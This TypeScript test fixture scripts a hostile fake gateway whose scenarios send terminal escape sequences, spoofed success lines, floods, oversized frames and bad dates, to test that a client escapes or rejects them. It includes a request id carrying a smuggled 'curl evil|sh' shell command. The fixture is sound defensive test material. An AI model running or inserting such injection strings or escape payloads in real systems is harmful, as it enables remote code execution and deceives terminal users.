/**
 * The scripts of the hostile gateway's scenarios (`hostile-gateway.ts`): the strings it sends, and the fake's
 * faults and hooks that make up each scenario.
 */
import type { Conn, FakeCronJob, FakeGatewayHooks, FakeGatewayOptions, FakeRequest } from './fake-types.js'
import { errorFrame } from './fake-types.js'

/** A line a gateway could try to make look like our own success report. */
export const FAKE_SUCCESS = '✓ run succeeded'
/**
 * Gateway text with OSC (retitle), BEL, CSI (clear screen), C1 CSI and NEL, a fake line, and one of every other
 * kind docs/security.md promises to show escaped: NUL and US (C0), DEL, the ends of C1, the line and paragraph
 * separators (each starting a fake line), every bidi embedding/override (U+202A–202E) and isolate (U+2066–2069).
 */
export const EVIL_TEXT =
  `ok\u001b]0;owned\u0007\u001b[2J\u009b1;1H\u0085\n${FAKE_SUCCESS}\r${FAKE_SUCCESS}\u202e` +
  `\u2028${FAKE_SUCCESS}\u2029${FAKE_SUCCESS}\u202a\u202b\u202c\u202d\u2066\u2067\u2068\u2069\u0000\u001f\u007f\u0080\u009f`
/** A close reason that fits the 123-byte limit and still carries ESC, BEL and C1. */
export const EVIL_REASON = `\u001b[2J\u0007bye\u009b31m\n${FAKE_SUCCESS}`
/** A pairing requestId that would run a command if pasted into a shell unquoted. */
export const EVIL_REQUEST_ID = 'r1"; curl evil|sh'
/** A job id with control characters. */
export const EVIL_ID = 'job-\u001b[31m-1\u0007'
/** Ids of the jobs of the `hostile-text` scenario. */
export const HOSTILE_JOBS = { evilName: 'evil-name', refused: 'refused', evilId: EVIL_ID } as const

/** The ways this gateway misbehaves; `expected` outcomes live in the suites that use it. */
export const HOSTILE_SCENARIOS = [
  'garbage-before-hello',
  'binary-before-hello',
  'oversized-before-hello',
  'flood-before-hello',
  'stall-before-challenge',
  'stall-after-challenge',
  'close-reason-escapes',
  'error-escapes',
  'evil-request-id',
  'starting-forever',
  'hello-protocol-99',
  'huge-tick-interval',
  'garbage-after-hello',
  'binary-after-hello',
  'oversized-after-hello',
  'flood-after-hello',
  'unknown-response-ids',
  'stall-after-hello',
  'close-after-hello-escapes',
  'hostile-text',
  'endless-paging',
  'bad-dates',
  'relay',
] as const
export type HostileScenario = (typeof HOSTILE_SCENARIOS)[number]

const MiB = 1024 * 1024
const isHello = (f: Record<string, unknown>): boolean =>
  f.type === 'res' && (f.payload as { type?: unknown } | undefined)?.type === 'hello-ok'

function res(id: string, payload: unknown): Record<string, unknown> {
  return { type: 'res', id, ok: true, payload }
}

function rawSend(conn: Conn, data: string | Buffer, binary = false): void {
  if (conn.ws.readyState === conn.ws.OPEN) conn.ws.send(data, { binary })
}

/** Before the challenge: frames that are not frames, then the ordinary handshake. */
function garbage(conn: Conn): boolean {
  for (const text of [
    `not json ${EVIL_TEXT}`,
    '[1,2,3]',
    '{"type":"res","id":"zzz","ok":true,"payload":{"type":"hello-ok","protocol":4}}',
    '{"type":"mystery"}',
    '"a string"',
  ])
    rawSend(conn, text)
  return false
}

/** An answer on a post-hello request that is neither late nor right, per scenario. */
type RequestScript = (
  conn: Conn,
  req: FakeRequest,
  send: (f: Record<string, unknown> | string) => void,
) => boolean

const onList =
  (script: RequestScript): RequestScript =>
  (conn, req, send) =>
    req.method === 'cron.list' ? script(conn, req, send) : false

/** Jobs of `hostile-text`: control characters in names, schedules, summaries and ids. */
function hostileJobs(): Array<Partial<FakeCronJob> & { name: string }> {
  return [
    {
      id: HOSTILE_JOBS.evilName,
      name: EVIL_TEXT,
      schedule: { kind: 'cron', expr: EVIL_TEXT, tz: EVIL_TEXT },
      payload: { kind: 'systemEvent', text: EVIL_TEXT },
    },
    { id: HOSTILE_JOBS.refused, name: 'refused' },
    { id: EVIL_ID, name: 'evil-id' },
  ]
}

function hostileRuns(jobId: string): Array<Record<string, unknown>> {
  return [
    { ts: Date.now(), jobId, action: 'finished', status: 'ok', summary: EVIL_TEXT, runId: EVIL_ID },
    { ts: Date.now(), jobId, action: 'finished', status: EVIL_TEXT, error: EVIL_TEXT, runAtMs: Date.now() },
  ]
}

/** A page of 200 large jobs that always says there is more (docs/protocol.md §7.1 `hasMore`). */
function endlessPage(req: FakeRequest): Record<string, unknown> {
  const offset = typeof req.params.offset === 'number' ? req.params.offset : 0
  const jobs = Array.from({ length: 200 }, (_, i) => ({
    id: `endless-${offset + i}`,
    name: `endless-${offset + i}-${'x'.repeat(2000)}`,
    enabled: true,
    schedule: { kind: 'every', everyMs: 60_000 },
    payload: { kind: 'systemEvent', text: 'y'.repeat(2000) },
    state: {},
  }))
  return { jobs, total: 1e9, offset, limit: 200, hasMore: true, nextOffset: offset + 200 }
}

const badDates: RequestScript = (_conn, req, send) => {
  const huge = { nextRunAtMs: 1e20, lastRunAtMs: -1e20, runningAtMs: 1e20 }
  if (req.method === 'cron.list') {
    const job = {
      id: 'bad-dates',
      name: 'bad-dates',
      enabled: true,
      schedule: { kind: 'at', atMs: 1e20 },
      payload: { kind: 'systemEvent', text: 'x' },
      createdAtMs: -1e20,
      updatedAtMs: 1e20,
      state: huge,
    }
    send(res(req.id, { jobs: [job], total: 1, offset: 0, limit: 200, hasMore: false, nextOffset: null }))
    return true
  }
  if (req.method === 'cron.runs') {
    const entries = [1e20, -1e20, Number.MAX_VALUE].map((t, i) => ({
      ts: t,
      runAtMs: t,
      jobId: 'bad-dates',
      action: 'finished',
      status: 'ok',
      durationMs: t,
      nextRunAtMs: t,
      runId: `bad-${i}`,
    }))
    send(res(req.id, { entries, total: 3, offset: 0, limit: 200, hasMore: false, nextOffset: null }))
    return true
  }
  if (req.method === 'cron.status') {
    send(res(req.id, { enabled: true, jobs: 1, nextWakeAtMs: 1e20, storePath: '/x' }))
    return true
  }
  return false
}

const hostileText: RequestScript = (_conn, req, send) => {
  const id = String(req.params.id ?? req.params.jobId ?? '')
  if (req.method === 'cron.run' && id === HOSTILE_JOBS.refused) {
    send(errorFrame(req.id, { code: 'INVALID_REQUEST', message: EVIL_TEXT, details: { code: EVIL_TEXT } }))
    return true
  }
  if (req.method === 'cron.runs') {
    send(res(req.id, { entries: hostileRuns(id), total: 2, offset: 0, limit: 50, hasMore: false }))
    return true
  }
  return false
}

function binaryBeforeHello(conn: Conn): boolean {
  for (let i = 0; i < 5; i++) rawSend(conn, Buffer.from([0x1b, 0x5b, 0x32, 0x4a, 0x07, 0x9b, i]), true)
  return false
}

function oversizedBeforeHello(conn: Conn): boolean {
  rawSend(conn, `{"type":"event","event":"x","payload":"${'x'.repeat(2 * MiB)}"}`)
  return false
}

function floodBeforeHello(conn: Conn): boolean {
  const junk = `{"type":"event","event":"flood","payload":"${'f'.repeat(200)}"}`
  for (let i = 0; i < 20_000; i++) rawSend(conn, junk)
  return false
}

/** Rewrites hello-ok's payload with `edit`; other frames pass unchanged. */
function editHello(
  edit: (payload: Record<string, unknown> & { policy: Record<string, unknown> }) => void,
): NonNullable<FakeGatewayHooks['rewriteOut']> {
  return (frame) => {
    if (isHello(frame)) edit(frame.payload as Record<string, unknown> & { policy: Record<string, unknown> })
    return frame
  }
}

const garbageAfterHello: RequestScript = (conn, req) => {
  for (const t of [`{"type":"res","id":"${req.id}"`, '[]', `${EVIL_TEXT}`]) rawSend(conn, t)
  return false
}

const binaryAfterHello: RequestScript = (conn) => {
  rawSend(conn, Buffer.from(EVIL_TEXT), true)
  return false
}

const oversizedList = onList((conn, req) => {
  rawSend(conn, JSON.stringify(res(req.id, { jobs: [], pad: 'x'.repeat(40 * MiB) })))
  return true
})

const floodOnList = onList((conn) => {
  const event = JSON.stringify({ type: 'event', event: 'presence', payload: { pad: 'p'.repeat(1000) } })
  for (let i = 0; i < 20_000; i++) rawSend(conn, event)
  return false
})

const unknownResponseIds: RequestScript = (_conn, req, send) => {
  for (const id of [`${req.id}-other`, '', 'x'.repeat(1000)]) send(res(id, { jobs: [] }))
  return true
}

const closeWithEscapes: RequestScript = (conn) => {
  conn.ws.close(4001, EVIL_REASON)
  return true
}

const endlessList = onList((_conn, req, send) => {
  send(res(req.id, endlessPage(req)))
  return true
})

/** Hooks on the ordinary fake with its one ordinary job (or these jobs). */
function hooked(
  hooks: FakeGatewayHooks,
  jobs: Array<Partial<FakeCronJob> & { name: string }> = [{ id: 'nightly', name: 'nightly' }],
): FakeGatewayOptions {
  return { hooks, jobs }
}

/** Each scenario's options, built afresh per gateway; `relay` is wired in `startHostileGateway`. */
const SCENARIO_OPTIONS: Record<HostileScenario, () => FakeGatewayOptions> = {
  'garbage-before-hello': () => hooked({ onConnection: garbage }),
  'binary-before-hello': () => hooked({ onConnection: binaryBeforeHello }),
  'oversized-before-hello': () => hooked({ onConnection: oversizedBeforeHello }),
  'flood-before-hello': () => hooked({ onConnection: floodBeforeHello }),
  'stall-before-challenge': () => ({ fault: { kind: 'no-challenge' } }),
  'stall-after-challenge': () => ({ fault: { kind: 'silence-after-challenge' } }),
  'close-reason-escapes': () => ({
    fault: {
      kind: 'connect-error',
      error: { code: 'INVALID_REQUEST', message: EVIL_REASON },
      closeCode: 4008,
      closeReason: EVIL_REASON,
      sendResponse: false,
    },
  }),
  'error-escapes': () => ({
    fault: {
      kind: 'connect-error',
      error: {
        code: 'INVALID_REQUEST',
        message: EVIL_TEXT,
        details: { code: EVIL_TEXT, reason: EVIL_TEXT },
      },
      closeReason: EVIL_REASON,
    },
  }),
  'evil-request-id': () => ({
    fault: {
      kind: 'connect-error',
      error: {
        code: 'NOT_PAIRED',
        message: `pairing required: ${EVIL_TEXT}`,
        details: { code: 'PAIRING_REQUIRED', requestId: EVIL_REQUEST_ID, reason: 'not-paired' },
      },
      closeReason: `pairing required (requestId: ${EVIL_REQUEST_ID})`,
    },
  }),
  'starting-forever': () => ({ fault: { kind: 'gateway-starting', retryAfterMs: 50 } }),
  'hello-protocol-99': () =>
    hooked({
      rewriteOut: editHello((payload) => {
        payload.protocol = 99
      }),
    }),
  'huge-tick-interval': () =>
    hooked({
      rewriteOut: editHello((payload) => {
        payload.policy.tickIntervalMs = 2 ** 40
      }),
    }),
  'garbage-after-hello': () => hooked({ onRequest: garbageAfterHello }),
  'binary-after-hello': () => hooked({ onRequest: binaryAfterHello }),
  'oversized-after-hello': () =>
    hooked({
      rewriteOut: editHello((payload) => {
        payload.policy.maxPayload = 2 ** 40
      }),
      onRequest: oversizedList,
    }),
  'flood-after-hello': () => hooked({ onRequest: floodOnList }),
  'unknown-response-ids': () => hooked({ onRequest: unknownResponseIds }),
  'stall-after-hello': () => hooked({ onRequest: () => true }),
  'close-after-hello-escapes': () => hooked({ onRequest: closeWithEscapes }),
  'hostile-text': () => hooked({ onRequest: hostileText }, hostileJobs()),
  'endless-paging': () => hooked({ onRequest: endlessList }),
  'bad-dates': () =>
    hooked({ onRequest: badDates }, [{ id: 'bad-dates', name: 'bad-dates', nextRunAtMs: 1e20 }]),
  relay: () => hooked({}),
}

/** The fake's options (faults and hooks) that make up each scenario, except `relay`. */
export function scenarioOptions(scenario: HostileScenario): FakeGatewayOptions {
  return SCENARIO_OPTIONS[scenario]()
}
